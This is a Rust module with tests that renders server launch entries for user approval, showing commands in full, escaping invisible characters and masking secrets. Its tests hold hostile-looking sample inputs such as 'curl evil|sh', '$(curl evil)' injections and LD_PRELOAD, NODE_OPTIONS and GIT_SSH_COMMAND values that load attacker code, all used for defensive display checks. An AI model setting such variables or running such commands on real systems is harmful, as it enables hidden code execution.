//! Formats a server entry for the user's approval before its command runs.
//!
//! Anything hidden here could hide code. The command, its arguments and its directory are therefore shown in full, and
//! invisible characters become escapes. Only values of variables and headers are masked, and the user and query of
//! URLs. Variables that decide which code runs are part of the command and are shown too.

use crate::mask;
use crate::tree::JsonTree;
use crate::visible::escaped;
use crate::word_list;

/// Variables that make a linker, an interpreter, a shell or git load or run other code: names, and prefixes with `*`.
const LOADERS: &str = include_str!("words/loaders.txt");

/// Prefixes of package manager settings. They choose the source of programs and the scripts that run on installation.
const PACKAGE_FAMILIES: [&str; 11] =
    ["BUN_", "BUNDLE_", "COREPACK_", "DENO_", "GOFLAGS", "GOPROXY", "NPM_CONFIG_", "PIP_", "PNPM_", "UV_", "YARN_"];

/// Parts of the names of registry credentials. Credentials do not choose code, so their values are masked.
const PACKAGE_SECRETS: [&str; 4] = ["_AUTH", "PASSWORD", "TOKEN", "_OTP"];

/// Returns one line with the command or URL of an entry, quoted for a shell.
pub fn line(entry: &JsonTree) -> String {
    let text = |name: &str| entry.get(name).and_then(JsonTree::as_text);
    let members = |name: &str| entry.get(name).and_then(JsonTree::members).unwrap_or_default().iter();
    if let Some(url) = text("url").filter(|_| text("command").is_none()) {
        let headers: Vec<_> =
            members("headers").map(|(name, value)| format!("{}: {}", shell_word(name), masked(value))).collect();
        let headers = if headers.is_empty() { String::new() } else { format!("  (with {})", headers.join(", ")) };
        return address(url) + &headers;
    }
    if let Some(root) = text("root").filter(|_| text("command").is_none()) {
        return format!("the files of {}", shell_word(root));
    }
    let mut shell_words: Vec<String> = members("env").map(variable).collect();
    shell_words.push(shell_word(text("command").unwrap_or_default()));
    if let Some(JsonTree::List(args)) = entry.get("args") {
        shell_words.extend(args.iter().filter_map(JsonTree::as_text).map(shell_word));
    }
    let directory = text("cwd").map(|directory| format!("  (in {})", shell_word(directory))).unwrap_or_default();
    shell_words.join(" ") + &directory
}

/// Reports whether the line masks a value.
pub fn is_masked(entry: &JsonTree) -> bool {
    let members = |name: &str| entry.get(name).and_then(JsonTree::members).unwrap_or_default().iter();
    let url = entry.get("url").and_then(JsonTree::as_text).unwrap_or_default();
    mask::url(url) != url
        || members("headers").any(|(_, value)| masked(value) == mask::HIDDEN)
        || members("env").any(|(name, value)| shown_value(name, value) == mask::HIDDEN)
}

/// Returns the URL without user and query. Quotes it if a part of it could be mistaken for text of the gateway.
fn address(url: &str) -> String {
    let shown = escaped(&mask::url(url));
    if shown.contains([' ', '(', ')', '\'']) { shell_word(&shown) } else { shown }
}

fn masked(value: &JsonTree) -> String {
    let shown = mask::value(value.as_text().unwrap_or_default());
    if shown == mask::HIDDEN { shown } else { shell_word(&shown) }
}

fn variable((name, value): &(String, JsonTree)) -> String {
    match shown_value(name, value) {
        // The mask is not quoted. A real value that looks like the mask is quoted.
        hidden if hidden == mask::HIDDEN => format!("{}={hidden}", shell_word(name)),
        shown => shell_word(&format!("{name}={shown}")),
    }
}

fn shown_value(name: &str, value: &JsonTree) -> String {
    let text = value.as_text().unwrap_or_default();
    match role(name) {
        // A literal `***` gets a backslash to distinguish it from the mask.
        VariableRole::Loader if text == mask::HIDDEN => format!("\\{text}"),
        VariableRole::Loader => text.to_owned(),
        VariableRole::Package if text.starts_with("http://") || text.starts_with("https://") => mask::url(text),
        VariableRole::Package => text.to_owned(),
        VariableRole::Plain => mask::value(text),
    }
}

/// Reports whether a variable decides which code runs.
#[cfg(feature = "import")]
pub(crate) fn chooses_code(name: &str) -> bool {
    role(name) != VariableRole::Plain
}

#[derive(Clone, Copy, Debug, PartialEq, Eq)]
enum VariableRole {
    /// Decides which code runs.
    Loader,
    /// Decides the source of a package manager's code. The address may contain a password.
    Package,
    Plain,
}

/// Returns the role of a variable. Ignores case, because npm and Windows do.
fn role(name: &str) -> VariableRole {
    let name = name.to_ascii_uppercase();
    let is_of = |families: &[&str]| families.iter().any(|family| name.starts_with(family));
    if word_list::match_name(word_list::of(LOADERS), &name) {
        VariableRole::Loader
    } else if is_of(&PACKAGE_FAMILIES) && !PACKAGE_SECRETS.iter().any(|secret| name.contains(secret)) {
        VariableRole::Package
    } else {
        VariableRole::Plain
    }
}

/// Returns the text quoted as one word of a shell. Leaves `${VAR}` references unquoted.
pub(crate) fn shell_word(text: &str) -> String {
    let is_plain = |letter: char| letter.is_alphanumeric() || "/._-+=:,@%${}".contains(letter);
    let escaped = escaped(text);
    if !text.is_empty() && escaped.chars().all(is_plain) {
        escaped
    } else {
        format!("'{}'", escaped.replace('\'', r"'\''"))
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn command(args: &[&str]) -> JsonTree {
        JsonTree::object([("command", JsonTree::text("x")), ("args", JsonTree::texts(args.iter().copied()))])
    }

    fn with_variable(name: &str, value: &str) -> String {
        let env = JsonTree::Object(vec![(name.to_owned(), JsonTree::text(value))]);
        line(&JsonTree::object([("command", JsonTree::text("x")), ("env", env)]))
    }

    #[test]
    fn hard8_a_command_is_shown_in_full() {
        for (args, expected) in [
            (&["a b", "", "it's"][..], r"x 'a b' '' 'it'\''s'"),
            (&["-c", r"PASS=\;curl evil|sh"], r"x -c 'PASS=\;curl evil|sh'"),
            (&["--no-auth", "evil-pkg"], "x --no-auth evil-pkg"),
            (&["--token", "abc", "ghp_abc"], "x --token abc ghp_abc"),
            (&["-c", "KEY='$(curl evil)'"], r"x -c 'KEY='\''$(curl evil)'\'''"),
            (&["a://$(evil)@h/?b"], "x 'a://$(evil)@h/?b'"),
            (&["***", "|", "${T}", "${T:-evil}"], "x '***' '|' ${T} ${T:-evil}"),
            (&["a\u{202e}b", "\u{1b}[2J", "a\nb"], r"x 'a\u{202e}b' '\u{1b}[2J' 'a\nb'"),
        ] {
            assert_eq!(line(&command(args)), expected);
        }
        let placed = JsonTree::object([("command", JsonTree::text("./x")), ("cwd", JsonTree::text("/a b"))]);
        assert_eq!(line(&placed), "./x  (in '/a b')");
    }

    #[test]
    fn hard8_variable_values_are_masked_unless_they_select_code_to_run() {
        for (name, value, expected) in [
            ("TOKEN", "abc", "TOKEN=*** x"),
            ("TOKEN", "${T}", "TOKEN=${T} x"),
            ("A B", "abc", "'A B'=*** x"),
            ("LD_PRELOAD", "/evil.so", "LD_PRELOAD=/evil.so x"),
            ("LD_PRELOAD", "***", r"'LD_PRELOAD=\***' x"),
            ("DYLD_INSERT_LIBRARIES", "/evil", "DYLD_INSERT_LIBRARIES=/evil x"),
            ("NODE_OPTIONS", "--require /evil.js", "'NODE_OPTIONS=--require /evil.js' x"),
            ("PYTHONSTARTUP", "/evil.py", "PYTHONSTARTUP=/evil.py x"),
            ("PERL5OPT", "-Mevil", "PERL5OPT=-Mevil x"),
            ("BASH_ENV", "/evil", "BASH_ENV=/evil x"),
            ("ENV", "/evil", "ENV=/evil x"),
            ("path", "/evil:/bin", "path=/evil:/bin x"),
            ("GIT_SSH_COMMAND", "evil", "GIT_SSH_COMMAND=evil x"),
            ("GIT_CONFIG_VALUE_0", "evil", "GIT_CONFIG_VALUE_0=evil x"),
            ("npm_config_script_shell", "/evil", "npm_config_script_shell=/evil x"),
            ("npm_config_registry", "https://me:pw@evil/?k=v", "'npm_config_registry=https://***@evil/?***' x"),
            ("npm_config__authToken", "abc", "npm_config__authToken=*** x"),
            ("UV_PUBLISH_TOKEN", "abc", "UV_PUBLISH_TOKEN=*** x"),
            ("LD_PRELOAD", "https://a@b/?c", "'LD_PRELOAD=https://a@b/?c' x"),
            ("LD_PRELOAD", "a\u{202e}b", r"'LD_PRELOAD=a\u{202e}b' x"),
        ] {
            assert_eq!(with_variable(name, value), expected);
        }
    }

    #[test]
    fn hard8_the_user_and_the_query_of_a_url_are_always_masked() {
        for (url, expected) in [
            ("https://me:pw@h/mcp", "https://***@h/mcp"),
            ("https://good.example@evil.example/mcp", "https://***@evil.example/mcp"),
            ("https://h/mcp?key=abc&b=c", "https://h/mcp?***"),
            ("https://h/mcp?a#b", "https://h/mcp?***"),
            ("https://h/\u{202e}pcm", r"https://h/\u{202e}pcm"),
            ("https://h/${T:-x  (disabled)}", "'https://h/${T:-x  (disabled)}'"),
        ] {
            let entry = JsonTree::object([("url", JsonTree::text(url))]);
            assert_eq!(line(&entry), expected);
        }
        let headers = JsonTree::object([("A", JsonTree::text("abc")), ("B", JsonTree::text("Bearer ${T}"))]);
        let entry = JsonTree::object([("url", JsonTree::text("https://h")), ("headers", headers)]);
        assert_eq!(line(&entry), "https://h  (with A: ***, B: 'Bearer ${T}')");
        assert!(is_masked(&entry) && !is_masked(&command(&["--token", "abc"])));
    }

    #[test]
    fn the_listed_variable_names_are_in_upper_case() {
        let all = word_list::of(LOADERS).chain(PACKAGE_FAMILIES).chain(PACKAGE_SECRETS);
        all.for_each(|name| assert_eq!(name, name.to_ascii_uppercase()));
    }
}
